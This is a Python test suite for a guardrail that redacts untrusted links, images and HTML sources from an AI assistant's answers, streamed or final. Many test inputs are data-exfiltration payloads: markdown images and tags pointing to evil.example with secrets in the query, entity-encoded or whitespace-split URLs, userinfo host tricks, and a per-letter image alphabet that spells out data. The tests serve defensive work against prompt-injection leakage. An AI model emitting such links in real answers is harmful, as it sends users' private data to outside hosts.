"""Where a link ends for those who follow it: Markdown, HTML, browsers and people do not agree."""

from __future__ import annotations

import time
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from flightloop.verdicts import Stage
from guardrails.guard import Guard
from guardrails.policy import parse_policy
from guardrails.types import Checked, GuardContext

POLICY = """
name: desk
version: "1"
stages:
  final: {rails: [{rail: links, keep: [user, results], action: redact}]}
  stream: {rails: [{rail: links, keep: [user, results], action: redact}]}
tools: {allow: {"*": ["*"]}}
"""
SHOP, STRANGER = "https://shop.example", "https://stranger.example/p.png"
CONTEXT = GuardContext(agent="desk", user_text=f"I was at {SHOP} before", results=(f"note: see {STRANGER} please",))


async def shown(answer: str, context: GuardContext = CONTEXT) -> str:
    """What is left of an answer, which must be the same for a stream, but for what a label uncovers beside it."""
    guard, context = Guard(parse_policy(POLICY)), replace(context, memo={})
    stream = guard.stream(context)
    streamed = "".join([*(stream.push(sign) for sign in answer), stream.finish()])
    final = (await guard.check(Checked(Stage.FINAL, answer, context))).text
    assert final in (streamed, (await guard.check(Checked(Stage.FINAL, streamed, context))).text)
    return final


@pytest.mark.parametrize(
    "answer",
    [
        STRANGER, f"see {STRANGER}.", f"({STRANGER})", f"**{STRANGER}**", f"<{STRANGER}>", f"[it]({STRANGER})",
        f'[it]({STRANGER} "title")', f"[it]({STRANGER}), and more", f'<a href="{STRANGER}">it</a>',
        f"<a href={STRANGER}>it</a>", f"{STRANGER}\nnext", f"{SHOP}/any?page=1#part",
        f"[a]({SHOP}/a)[b]({SHOP}/b)", f"{SHOP}/it's", f"<{SHOP}/a b>",
        f"[it]({STRANGER})s", f"[訂單]({STRANGER})查看", f"[it]({STRANGER} 't')", f"[it](<{STRANGER}>)",
        f"{STRANGER}<br>next", f"| {STRANGER} |", f"git+{SHOP}/a", f'<a class="b" href="{SHOP}">it</a>',
    ],
)  # fmt: skip
async def test_a_link_that_somebody_vouches_for_stays(answer: str) -> None:
    assert await shown(answer) == answer


IMAGES = [
    "![it](LINK)", "![it](<LINK>)", '![it](LINK "title")', "![a [b] c](LINK)", "[![it](LINK)](SHOP)",
    '<img src="LINK" alt="it">', "<img src=LINK>", "<img src = 'LINK'>", "<div style='background: url(LINK)'>",
    "![it][1]\n\n[1]: LINK\n", f"![{'x' * 600}](LINK)", '<body background="LINK">', "![a\\[](LINK)",
    "![`[`](LINK)", "![&#91;[](LINK)",
    "<svg><image href=LINK /></svg>", "<link href=LINK>",
]  # fmt: skip


@pytest.mark.parametrize("form", IMAGES)
async def test_what_loads_by_itself_stays_if_a_trusted_result_has_it(form: str) -> None:
    """One of a stranger may be one of many, of which the answer's choice spells out what was read."""
    answer = form.replace("LINK", STRANGER).replace("SHOP", SHOP)
    assert "stranger.example" not in await shown(answer)
    assert await shown(answer, replace(CONTEXT, trusted_results=CONTEXT.results, written_before=(0,))) == answer


async def test_images_of_a_strangers_alphabet_spell_nothing() -> None:
    letters = {sign: f"https://evil.example/x/{sign}.png" for sign in "abcdefghijklmnopqrstuvwxyz0123456789"}
    page = "Icons: " + " ".join(f"![{sign}]({link})" for sign, link in letters.items())
    answer = "Here you are. " + " ".join(f"![]({letters[sign]})" for sign in "porto7403")
    assert "evil.example" not in await shown(answer, replace(CONTEXT, results=(page,)))


@pytest.mark.parametrize("text", ["https://e.io/ab ", "https://e.io/ab", "https://", "http://a.b/", "www.a", "//a"])
async def test_a_page_of_nothing_but_links_holds_nobody_up(text: str) -> None:
    page = (text * 65536)[:65536]
    context = replace(CONTEXT, results=(page,) * 16)
    began = time.thread_time()
    await shown(" ".join(["https://e.io/a"] * 40), context)
    assert time.thread_time() - began < 3


@pytest.mark.parametrize("behind", ["'", "{", "|", "^", "`", "}", "]", ")", " ", "\n", "\\", ",", "(", "((", ".)"])
@pytest.mark.parametrize("form", ["![a](LINK)", "![a](<LINK>)", '<img src="LINK">', "<img src='LINK'>", "see LINK now"])
async def test_what_stands_behind_a_results_link_goes_nowhere(form: str, behind: str) -> None:
    if form in ("see LINK now", "![a](LINK)") and behind in (" ", "\n"):
        return  # the link is over
    if (form, behind) in (("![a](LINK)", ")"), ("![a](LINK)", ".)"), ("<img src='LINK'>", "'")):
        return  # so it is here
    assert "stranger.example" not in await shown(form.replace("LINK", f"{STRANGER}{behind}?d=35-Garden-Way"))


@pytest.mark.parametrize("between", ["{", "'", "|", ")", "]", "`", "^"])
@pytest.mark.parametrize("length", [3, 150, 300, 3000])
async def test_a_user_before_the_host_is_no_host(between: str, length: int) -> None:
    for form in ("![a](LINK)", "![a](<LINK>)", "LINK"):
        if (form, between) == ("![a](LINK)", ")"):
            continue  # there the link is over
        link = f"{SHOP}{between}{'a' * length}@evil.example/p?d=SECRET"
        assert f"{SHOP}{between}a" not in await shown(form.replace("LINK", link))


@pytest.mark.parametrize("form", ["![a](<LINK>)", '<img src="LINK">'])
async def test_blanks_do_not_end_a_host_within_brackets(form: str) -> None:
    assert "shop" not in await shown(form.replace("LINK", f"{SHOP} @evil.example/p?d=SECRET"))


@pytest.mark.parametrize(
    "answer",
    [
        "![a](" + " " * 9 + "//EVIL)", "![a](" + " " * 8 + "\n//EVIL)", "[b]:" + "\t" * 30 + "//EVIL",
        "<img src=" + " " * 9 + '"//EVIL">', "![a](" + " " * 9 + "https:EVIL)", '<img srcset="x 1x, //EVIL 2x">',
        '@import "//EVIL";', "<img src='/\n/EVIL'>", "<img src='ht\ttps://EVIL'>", "<img src=' h\nttps:EVIL'>",
        "look at www.EVIL", "[www.EVIL](x)", "> ![a](\n> //EVIL)", "> ![a](\n> <//EVIL>)",
        "![a][r]\n\n> [r]:\n> //EVIL",
        "- ![a](\n  //EVIL)", "_https://EVIL_", "![a](&#104;ttps://EVIL)", "![a](&#47;/EVIL)", "![a](&sol;&sol;EVIL)",
        "![a](<&#47;/EVIL>)", "![a](\\//EVIL)", "![a](\\/\\/EVIL)", "![a](https&colon;//EVIL)",
        "![a](https:&#47;/EVIL)",
        "![a](https\\:EVIL)", "![a](https\\:\\EVIL)", "> <img\n> src=\n> //EVIL>", "[r]:\n &#47;&#47;EVIL",
    ],
)  # fmt: skip
async def test_other_ways_to_write_a_link_are_links(answer: str) -> None:
    assert "evil.example" not in await shown(answer.replace("EVIL", "evil.example/p?d=SECRET"))


@pytest.mark.parametrize(
    "answer",
    [
        "![a](&#9;https&colon;//EVIL)", "![a](&Tab;https&colon;//EVIL)", "![a](ht&Tab;tps://EVIL)",
        "![a](/&NewLine;/EVIL)", "![a](&nbsp;//EVIL)", "![a](&#1;//EVIL)", "![a](/&#13;/EVIL)",
        "![a](" + "&#9;" * 200 + "https&colon;//EVIL)", "[r]: &#32;https&colon;//EVIL", "[r]: &#32;&#32;//EVIL",
        "![a](https&#58//EVIL)", "![a](\\&#9;https\\&colon;//EVIL)", "![a](&\\#104;ttps://EVIL)",
        "![a](&#x0000000000000000068;ttps://EVIL)", "![a](&bsol;/EVIL)", "![a](//\tEVIL)", "[a](w&#119;&#x57;.EVIL)",
        '<img src="&#104;ttps://EVIL">', '<img src="&#47;/EVIL">', "<a style='background:url(&quot;//EVIL&quot;)'>",
        "see https&colon;//EVIL", "see https\\://EVIL", "see www&period;EVIL", "see &#104;ttps://EVIL",
    ],
)  # fmt: skip
async def test_signs_by_number_or_name_make_a_link(answer: str) -> None:
    assert "evil.example" not in await shown(answer.replace("EVIL", "evil.example/p?d=SECRET"))


@pytest.mark.parametrize("before", ["-", "No.1", "見", "Details.", "x", "+", "_", "a_", "(", "/", "@", "~"])
@pytest.mark.parametrize("link", ["https://EVIL", "ftp://EVIL", "www.EVIL", "www.EVIL@a.b"])
async def test_a_link_may_begin_behind_any_sign(before: str, link: str) -> None:
    answer = before + link.replace("EVIL", "evil.example/SECRET")
    assert "SECRET" not in await shown(answer)


@pytest.mark.parametrize("sign", ["&sol;", "&#47;", "&quest;", "&num;", "&bsol;", "\\/", "\\\\", "&#x2f"])
@pytest.mark.parametrize("form", ["![a](LINK)", "[a](<LINK>)", '<img src="LINK">', "LINK"])
async def test_a_host_ends_at_a_sign_by_number_or_name(form: str, sign: str) -> None:
    link = f"https://evil.example{sign}@shop.example/SECRET"
    assert "SECRET" not in await shown(form.replace("LINK", link))


@pytest.mark.parametrize("between", ["\n", "\t", "\r", "\n> "])
async def test_a_line_break_does_not_end_a_host(between: str) -> None:
    assert "shop" not in await shown(f"![a]({SHOP}{between}.evil.example/SECRET)")


FAR = [" " * 110, "\t" * 3000, "\n" + " " * 200, " " * 50 + "\n> " + " " * 60, " &#32;" * 40, " <"]


@pytest.mark.parametrize("blanks", FAR)
async def test_a_definition_far_before_its_image_is_one(blanks: str) -> None:
    answer = f"> [r]:{blanks}{STRANGER}\n\n![it][r]"
    assert "stranger.example" not in await shown(answer)


@pytest.mark.parametrize(
    "form",
    [
        "[it](LINK SECRET)", '[it](LINK "t" SECRET)', '[it](LINK "SECRET)")', "[it](LINK\nSECRET)",
        "[it](LINK =SECRET)",
        "[it](<LINK>SECRET)", "[it](<LINK> SECRET)", "[it](&#32;LINK SECRET)", "[it](LINK)(SECRET)",
        "[r]: LINK SECRET\n\n[it][r]", "[r]: <LINK> SECRET\n\n[it][r]", "\\<LINK>SECRET", "<LINK SECRET>",
        "it](LINK)SECRET", "[it\\](LINK)SECRET", "[a `]` b](LINK)SECRET", 'x="LINK">SECRET', '\\<a href="LINK">SECRET',
        '<a =href="LINK">SECRET', "x=LINK<SECRET", "LINK<SECRET", "LINK<@evil.example/SECRET",
        "\\<LINK</a>SECRET", "<LINK\n。SECRET>", '<a href="LINK SECRET">it</a>',
    ],
)  # fmt: skip
async def test_what_one_reader_takes_for_a_part_of_a_results_link_does_not_leave(form: str) -> None:
    """Python-Markdown takes a target to its bracket, GFM a bare link to the next blank, showdown beyond a tag."""
    assert "stranger.example" not in await shown(form.replace("LINK", STRANGER))


async def test_text_that_looks_like_it_stays() -> None:
    for answer in (
        "either, // or",
        "a = 1 // b",
        "x, y, /etc/passwd",
        "http and https",
        "[0-9](\\w+)",
        "[a-z](\\d)",
        "[x](a&amp;b)",
        "[it](/a\\_b)",
        "www",
        "a=b/c",
        "1 // 2, //",
        "awww... so cute",
        "by-laws://x",
        "f(a &amp; b) &#104;",
        "x = [1, //\n 2]",
    ):
        assert await shown(answer) == answer


SIGNS = st.text(st.sampled_from(list("ab/\\:.,@()[]<>\"'`{}|?=# \n\t")), max_size=12)


BEFORE = st.sampled_from(["", " ", "(", "[", "<", '"', "**", "x ", "= ", "=", "]:", "url(", "\n"])


@settings(deadline=None, max_examples=300, database=None)
@given(BEFORE, SIGNS, st.sampled_from(["![a](LINK)", "![a](<LINK>)", '<img src="LINK">', "LINK"]))
async def test_no_sign_lets_a_stranger_have_more_than_its_link(before: str, behind: str, form: str) -> None:
    """Whatever stands around it: what is kept of a result's host is the link alone."""
    left = await shown(form.replace("LINK", f"{before}{STRANGER}{behind}secret"))
    if "stranger.example" in left:
        after = left.split(STRANGER, 1)[1]
        assert "secret" not in after or any(sign in after.split("secret")[0] for sign in " \n\t<>\"')]")
